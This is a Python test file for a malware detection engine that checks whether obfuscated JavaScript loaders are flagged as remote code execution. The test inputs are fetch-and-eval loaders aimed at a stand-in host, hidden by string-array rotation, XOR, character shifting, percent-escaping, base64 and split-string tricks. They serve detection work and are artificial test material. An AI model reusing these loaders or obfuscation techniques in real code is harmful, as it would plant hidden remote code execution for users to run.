"""Inert scripts whose meaning shows only after their obfuscation is undone."""

import base64

import pytest

from lazaretto.detect.catalog import RULES
from lazaretto.detect.engine import Engine, FileResult
from lazaretto.detect.layers.catalog import LAYERS
from lazaretto.parse.blob import Blob
from lazaretto.parse.catalog import VIEWS

TABLE = (
    "function t(){const a=['1x','then','https://cdn.example.invalid/a.js','text'];t=function(){return a;};return t();}"
)
DECODER = "function d(i){i=i-0x10;const a=t();return a[i];}"
ROTATION = (
    "(function(f,n){const x=d,a=f();while(!![]){try{const c=parseInt(x(0x13))/0x1+parseInt(x(0x13))/0x2+parseInt(x(0x13))/0x2;"
    "if(c===n)break;else a['push'](a['shift']());}catch(e){a['push'](a['shift']());}}}(t,0x2));"
)
USE = "const w=d;fetch(w(0x11))[w(0x10)](r=>r[w(0x12)]())[w(0x10)](s=>eval(s));"


def examine(source: str, path: str = "lib/index.js") -> FileResult:
    result = Engine(RULES, VIEWS, layers=LAYERS).examine(Blob(path, source.encode()))
    assert not result.gaps, [gap.reason.english() for gap in result.gaps]
    return result


def graves(source: str) -> list[tuple[str, tuple[str, ...]]]:
    return [(f.rule, f.layers) for f in examine(source).findings if f.severity.name == "CRITICAL"]


def test_string_table():
    assert graves(TABLE + DECODER + ROTATION + USE) == [
        ("js/remote-code-executed", ("string array of 4 entries, rotated, 4 calls",))
    ]


LOADER = "fetch('https://cdn.example.invalid/a.js').then((r) => r.text()).then((t) => eval(t))"


@pytest.mark.parametrize(
    ("source", "step"),
    [
        (f"eval({[ord(c) ^ 42 for c in LOADER]}.map((c) => String.fromCharCode(c ^ 42)).join(''))", "text given to eval"),
        (f"const k = {[ord(c) + 3 for c in LOADER]};let o = '';for (const c of k) o += String.fromCharCode(c - 3);\nFunction(o)();", "text given to Function"),
        (f"require('vm').runInThisContext(unescape('{''.join(f'%{ord(c):02x}' for c in LOADER)}'))", "text given to runInThisContext"),
        (f"$=~[];eval(atob('{base64.b64encode(LOADER.encode()).decode()}'))", "text given to eval"),
        ("f=['fe'+'tch'][0];" + LOADER.replace("eval(t)", "globalThis['ev'+'a'+'l'+''](t)").replace("'https:", "'htt'+'ps:"), "constants folded"),
    ],
)  # fmt: skip
def test_ways(source, step):
    found = graves(source)
    assert ("js/remote-code-executed", (step,)) in found or ("js/remote-code-executed", ()) in found


@pytest.mark.parametrize(
    "source",
    [
        "const add = new Function('a', 'b', 'return a + b'); const s = Buffer.from(x, 'base64');",
        "module.exports = (s) => eval('(' + s + ')'); String.fromCharCode(1);",
        "const codes = [104, 105].map((c) => String.fromCharCode(c)).join(''); console.log(codes); eval('1+1')",
        "const url = 'https://' + host + '/' + path + '/' + file; get(url)",
    ],
)
def test_near_misses(source):
    assert [f.rule for f in examine(source).findings if f.severity.name in ("HIGH", "CRITICAL")] == []


@pytest.mark.parametrize(
    "source",
    [
        "".join(f"function _0x{n:06x}(){{" for n in range(2000)) + "}" * 2000,
        "eval(" + "(![]+[])[+[]]+" * 60_000 + "[])",
    ],
)
def test_bait_becomes_a_gap(source):
    result = Engine(RULES, VIEWS, layers=LAYERS).examine(Blob("a.js", source.encode()))
    assert any("obfuscation" in gap.reason.english() for gap in result.gaps)
